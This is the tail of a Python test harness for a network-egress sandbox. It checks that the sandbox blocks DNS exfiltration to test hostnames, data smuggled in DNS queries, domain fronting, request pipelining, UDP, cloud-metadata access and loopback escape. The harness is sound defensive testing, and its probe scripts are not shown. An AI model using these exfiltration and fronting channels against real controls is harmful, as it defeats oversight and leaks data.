    for k in ("front python host other", "front python host shared"):
        if res[k].get("stage") == "done" and res[k].get("reply"):
            j.bad(f"{k}: the fronted HTTP request was answered: {res[k]}")
    pipelined = res["front pipelined"].get("reply", "").count("HTTP/1.1 ")
    if "HTTP/1.1 200 OK" not in res["front pipelined"].get("reply", ""):
        j.bad(f"front pipelined: the first request (Host: allowed.test) was not answered: {res['front pipelined']}")
    if pipelined > 1:
        j.bad(f"front pipelined: the second request (Host: other.test) was answered: {res['front pipelined']}")
    for k in ("front absolute-form", "front bare lf", "front host case"):
        if res[k].get("stage") == "done" and res[k].get("reply"):
            j.bad(f"{k}: the request naming other.test was answered: {res[k]}")
    if res["front raw host other"].get("step") == "done":
        j.bad(f"raw_dns_client ip {fxm.ALLOWED4} 80 other.test: answered: {res['front raw host other']}")
    # the floor
    j.refused_curl(res, "curl meta.test", rcs=(6, 7))
    r = res["tcp meta.test 9000"]
    if not (r.get("stage") == "connect" and r.get("errno") == ECONNREFUSED) and r.get("stage") != "resolve":
        j.bad(f"tcp meta.test:9000: expected ECONNREFUSED (or no address), got {r}")
    j.refused_connect(res, "tcp meta 9000")
    # the rule's port
    j.refused_curl(res, "curl port.test 80", rcs=(7,))
    j.refused_connect(res, "tcp port.test 80")
    for k in ("udp allowed 9000", "udp allowed 5353", "udp allowed6 9000", "udp other 9000"):
        if res[k].get("errno") == 0:
            j.bad(f"{k}: a UDP datagram to the fixture was sent")

    for k in ("udp connected allowed 9000", "udp connected allowed6 9000") + (("udp connected dns",) if kernel else ()):
        if res[k].get("errno") == 0:
            j.bad(f"{k}: a datagram on a connected UDP socket was sent: {res[k]}")

    # what reached the fixture
    names = set(fxm.dns_names(log))
    allowed_names = {"allowed.test", "meta.test", "port.test"}
    if "allowed.test" not in names:
        j.bad(f"the fixture's DNS server never saw allowed.test (the check is blind): {sorted(names)}")
    if names - allowed_names:
        j.bad(f"names that are not allowed reached the fixture's DNS server: {sorted(names - allowed_names)}")
    leaked_exfil = [n for n in exfil + direct if any(n.lower() in x for x in names)]
    if leaked_exfil:
        j.bad(f"exfiltration by query name: the fixture's DNS server saw {leaked_exfil}")
    smuggled = [x for x in fixture_saw(log, "dns") if smuggle.encode().hex() in x.get("raw", "")]
    if smuggled:
        j.bad(f"data smuggled in queries for allowed.test (EDNS option, second question, extra records) reached "
              f"the fixture's DNS server: {[(x['name'], x['type'], x['proto']) for x in smuggled]}")
    anys = fixture_saw(log, "dns", type="ANY")
    if anys:
        j.bad(f"ANY queries reached the fixture's DNS server: {anys}")
    for addr in (fxm.OTHER4, fxm.OTHER6, fxm.NET4, fxm.META4):
        got = fixture_saw(log, addr=addr)
        if got:
            j.bad(f"the fixture's listeners on {addr} (refused) saw {got[:5]}")
    got = fixture_saw(log, addr=fxm.PORT4, port=80)
    if got:
        j.bad(f"port.test:80 (the rule allows 9000) reached the listener: {got[:5]}")
    hosts = {x.get("host") for x in fixture_saw(log, "http")}
    snis = {x.get("sni") for x in fixture_saw(log, "sni")}
    bad_hosts = {x.get("host") for x in fixture_saw(log, "http")
                 if (x.get("host") or "").split(":")[0] != "allowed.test" and x.get("host") != f"[{fxm.ALLOWED6}]"}
    if any(x.get("path") == "/pipelined" for x in fixture_saw(log, "http")):
        j.bad("the second pipelined request (Host: other.test) reached the HTTP listener")
    if bad_hosts:
        j.bad(f"fronted requests reached the HTTP listeners (Host {sorted(map(str, bad_hosts))})")
    fronted_paths = [x for x in fixture_saw(log, "http") if "other.test" in (x.get("path") or "")
                     or "shared.test" in (x.get("path") or "")]
    if fronted_paths:
        j.bad(f"requests whose target names another host reached the HTTP listeners: {fronted_paths[:3]}")
    if snis - {"allowed.test"}:
        j.bad(f"fronted TLS handshakes reached the listeners (SNI {sorted(map(str, snis - {'allowed.test'}))})")
    if "allowed.test" not in hosts or "allowed.test" not in snis:
        j.bad(f"the fixture saw no request for allowed.test over HTTP and TLS (hosts {hosts}, SNI {snis})")
    tls_err = fixture_saw(log, "tls-error")
    if tls_err:
        j.bad(f"TLS handshakes that did not finish reached the listener: {tls_err[:3]}")
    # every connection on 80/443 that delivered bytes must be an allowed request
    for port, kind in ((80, "http"), (443, "sni")):
        data = len(fixture_saw(log, "data", port=port))
        seen = len(fixture_saw(log, kind, port=port))
        if data > seen:
            j.bad(f"{data - seen} connections delivered bytes to port {port} without an allowed "
                  f"{'request' if kind == 'http' else 'handshake'}")
    udps = fixture_saw(log, "udp")
    if udps:
        j.bad(f"UDP datagrams reached the fixture: {udps[:5]}")
    # the violation log
    check_vlog(j, vlog, fxm.OTHER4)
    check_vlog(j, vlog, fxm.OTHER6)
    check_vlog(j, vlog, fxm.NET4)
    check_vlog(j, vlog, fxm.META4, name="meta.test")
    if kernel:
        check_vlog(j, vlog, fxm.DNS_ADDR)
    check_vlog(j, vlog, fxm.PORT4, name="port.test", port=80)
    check_vlog(j, vlog, fxm.ALLOWED4, port=443)
    check_vlog(j, vlog, fxm.ALLOWED4, port=80)
    dns_denied = " ".join(str(x.get("name", "")).lower() for x in vlog if x.get("syscall") == "dns")
    for n in (exfil[0], exfil[2]):
        if n.lower() not in dns_denied:
            j.bad(f"the violation log has no DNS denial naming {n} ({dns_denied[:300]!r})")
    if not any("metadata floor" in x.get("rule", "") for x in denials(vlog, fxm.META4)):
        j.bad("the violation log's denial of 169.254.169.254 names no metadata floor rule")
    print(f"[{user}] refusals/{level}: {len(log)} fixture events, DNS names {sorted(names)}, "
          f"{len(vlog)} violation lines, {good}/50 parallel")


def judge_chains(user, res, log, vlog, failures, exfil):
    j = Judge(user, "chains", failures)
    j.refused_connect(res, "direct other4 first")
    r = res["getent hosts go.test"]
    if r.get("rc") != 0 or fxm.OTHER4 not in r.get("out", "") and fxm.OTHER6 not in r.get("out", ""):
        j.bad(f"getent hosts go.test (CNAME other.test): {r}")
    if res["gai go.test"] != [fxm.OTHER4]:
        j.bad(f"getaddrinfo(go.test, AF_INET): expected [{fxm.OTHER4}], got {res['gai go.test']}")
    j.ok_curl(res, "curl go http")
    j.ok_curl(res, "curl go https")
    j.reply(res, "tcp go 9000", fxm.OTHER4)
    j.nxdomain(res, "gai other.test")
    j.refused_curl(res, "front go other")
    r = res["front go host other"]
    if r.get("stage") == "done" and r.get("reply"):
        j.bad(f"Host: other.test to go.test's address was answered: {r}")
    if res["gai far.test"] != [fxm.FAR4]:
        j.bad(f"getaddrinfo(far.test), a two-step CNAME chain: {res['gai far.test']}")
    j.reply(res, "tcp far 9000", fxm.FAR4)
    j.nxdomain(res, "gai mid.example")
    j.nxdomain(res, "gai target.example")
    if res["gai short.test"] != [fxm.SHORT4]:
        j.bad(f"getaddrinfo(short.test): {res['gai short.test']}")
    j.reply(res, "tcp short 9000", fxm.SHORT4)
    j.reply(res, "tcp a.wild 9000", fxm.WILD4)
    j.reply(res, "tcp x.y.wild 9000", fxm.WILD4)
    j.nxdomain(res, "gai exfil")
    j.reply(res, "tcp net 9000", fxm.NET4)
    j.refused_connect(res, "tcp net 80")

    names = set(fxm.dns_names(log))
    allowed = {"go.test", "far.test", "short.test", "a.wild.test", "x.y.wild.test",
               "other.test", "mid.example", "target.example"}  # the last three as CNAME targets
    if names - allowed:
        j.bad(f"names that are not allowed reached the fixture's DNS server: {sorted(names - allowed)}")
    if not {"go.test", "far.test"} <= names:
        j.bad(f"the fixture's DNS server never saw go.test and far.test (the check is blind): {sorted(names)}")
    snis = {x.get("sni") for x in fixture_saw(log, "sni")}
    hosts = {x.get("host") for x in fixture_saw(log, "http")}
    if snis - {"go.test"} or hosts - {"go.test"}:
        j.bad(f"fronted requests reached the listeners: SNI {snis}, Host {hosts}")
    got = fixture_saw(log, addr=fxm.NET4, port=80)
    if got:
        j.bad(f"203.0.113.7:80 (the rule allows 9000) reached the listener: {got}")
    check_vlog(j, vlog, fxm.NET4, port=80)
    check_vlog(j, vlog, fxm.OTHER4, port=9000)
    check_vlog(j, vlog, fxm.OTHER4, port=443)
    print(f"[{user}] chains: {len(log)} fixture events, DNS names {sorted(names)}, {len(vlog)} violation lines")


def judge_profile(user, res, log, vlog, failures, exfil):
    j = Judge(user, "profile", failures)
    j.ok_curl(res, "curl http")
    j.ok_curl(res, "curl https")
    j.nxdomain(res, "gai other.test")
    j.nxdomain(res, "gai exfil")
    j.refused_connect(res, "direct other4")
    j.refused_curl(res, "front curl https other")
    names = set(fxm.dns_names(log))
    if names != {"allowed.test"}:
        j.bad(f"the fixture's DNS server saw {sorted(names)}, expected allowed.test alone")
    if fixture_saw(log, addr=fxm.OTHER4) or {x.get("sni") for x in fixture_saw(log, "sni")} - {"allowed.test"}:
        j.bad(f"refused connections reached the fixture: {[x for x in log if x.get('kind') != 'dns'][:8]}")
    check_vlog(j, vlog, fxm.OTHER4)
    print(f"[{user}] profile: {len(log)} fixture events, DNS names {sorted(names)}, {len(vlog)} violation lines")


REFUSAL_RULES = ["--allow-host", "allowed.test", "--allow-host", "meta.test", "--allow-host", "port.test:9000"]
CHAIN_RULES = ["--allow-host", "go.test", "--allow-host", "far.test", "--allow-host", "short.test",
               "--allow-host", "*.wild.test", "--allow-net", f"{fxm.NET4}:9000"]


def main():
    args = sys.argv[1:]
    without = "--without-sandbox" in args
    args = [a for a in args if a != "--without-sandbox"]
    if len(args) != 2:
        print(__doc__)
        return 2
    if os.geteuid() != 0:
        print("SKIP: needs root (it makes the fixture network namespace)")
        return 77
    rf, rawc = stage(*args)
    if without:
        print("--without-sandbox: the scripts run with no ringfence; every refusal must be reported as a failure")
        rf = None
    users = ["root", "nobody"]
    ok, why = userns_available()
    if not ok:
        print(f"note: {why}; the uid {NOBODY} runs are skipped")
        users = ["root"]
    fxm.enter()
    fx = fxm.Fixture()
    work = tempfile.mkdtemp(prefix="rf-egress-")
    os.chmod(work, 0o755)
    failures = []
    # A server on the loopback outside the sandbox: at the landlock level the host's loopback is
    # the sandbox's too, and must be refused; nothing may ever connect to it.
    hostlo = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    hostlo.bind(("127.0.0.1", 0))
    hostlo.listen(64)
    hostlo.setblocking(False)
    HOSTLO[0] = hostlo.getsockname()[1]
    try:
        project = os.path.join(work, "project")
        os.mkdir(project)
        os.chmod(project, 0o777)
        shutil.copy(rawc, project + "/raw_dns_client")
        os.chmod(project + "/raw_dns_client", 0o755)
        why = feature_missing(rf, project, work) if rf else None
        if why:
            print("FAIL", why)
            print("1 failures")
            return 1
        for user, level in [(u, lv) for lv in ("kernel", "landlock", "soft") for u in users]:
            tag = secrets.token_hex(4)
            exfil = [f"secret-data-{tag}.other.test", f"secret-getent-{tag}.other.test",
                     f"{secrets.token_hex(12)}.other.test", f"{secrets.token_hex(12)}.test",
                     f"{secrets.token_hex(12)}.exfil.example", secrets.token_hex(12),
                     f"{secrets.token_hex(8)}.allowed.test"]
            direct = [f"direct-udp-{tag}.test", f"direct-tcp-{tag}.test", f"direct-fetch-{tag}.test"]
            smuggle = f"smuggled{secrets.token_hex(10)}"
            consts = (f"PROJECT={project!r}\nSANDBOX_RESOLVER={SANDBOX_RESOLVER!r}\nDNS_ADDR={fxm.DNS_ADDR!r}\n"
                      f"ALLOWED4={fxm.ALLOWED4!r}\nALLOWED6={fxm.ALLOWED6!r}\nOTHER4={fxm.OTHER4!r}\n"
                      f"OTHER6={fxm.OTHER6!r}\nNET4={fxm.NET4!r}\nMETA4={fxm.META4!r}\n"
                      f"EXFIL={exfil!r}\nDIRECT={direct!r}\nSMUGGLE={smuggle!r}\n"
                      f"LEVEL={level!r}\nHOSTLO={HOSTLO[0]!r}\n"
                      # the smuggling probes' resolver; the fixture's own server without a sandbox
                      f"RESOLVER={fxm.DNS_ADDR if rf is None else SANDBOX_RESOLVER!r}\n")
            for name, body in (("refusals.py", REFUSALS), ("chains.py", CHAINS), ("profile.py", PROFILE)):
                with open(os.path.join(project, name), "w") as f:
                    f.write(consts + body)
            # the profile file lies outside the project (the sandbox cannot change it)
            profile = os.path.join(work, f"profile-{user}.toml")
            with open(profile, "w") as f:
                f.write('[network]\nallow_hosts = ["allowed.test"]\n')
            os.chmod(profile, 0o644)
            # below the kernel level: the host's network shared, DNS rewritten to the launcher
            at = ["--level", level] if level != "kernel" else []
            for script, rules, judge in (("refusals.py", REFUSAL_RULES + at, judge_refusals),
                                         ("chains.py", CHAIN_RULES + at, judge_chains),
                                         ("profile.py", ["--profile", profile] + at, judge_profile)):
                fx.take()
                try:
                    res, vlog = run_sandbox(rf, user, work, project, script, rules, script[:-3] + tag)
                except Exception as e:  # noqa: BLE001
                    failures.append(f"[{user}] {script[:-3]}/{level}: {e}")
                    continue
                log = fx.take(settle=0.5)
                try:
                    conn, peer = hostlo.accept()
                    conn.close()
                    failures.append(f"[{user}] {script[:-3]}/{level}: the loopback server outside the "
                                    f"sandbox was reached (from {peer})")
                except BlockingIOError:
                    pass
                dump = os.environ.get("RF_EGRESS_DUMP")  # a directory: each run's results and logs
                if dump:
                    with open(os.path.join(dump, f"{user}-{level}-{script[:-3]}.json"), "w") as f:
                        json.dump({"result": res, "violations": vlog, "fixture": log}, f, indent=1)
                try:
                    if judge is judge_refusals:
                        judge(user, res, log, vlog, failures, exfil, direct, smuggle, level)
                    else:
                        judge(f"{user}/{level}", res, log, vlog, failures, exfil)
                except KeyError as e:
                    failures.append(f"[{user}] {script[:-3]}: the script's result lacks {e}")
    finally:
        hostlo.close()
        shutil.rmtree(work, ignore_errors=True)
    for f in failures:
        print("FAIL", f)
    print("PASS" if not failures else f"{len(failures)} failures")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
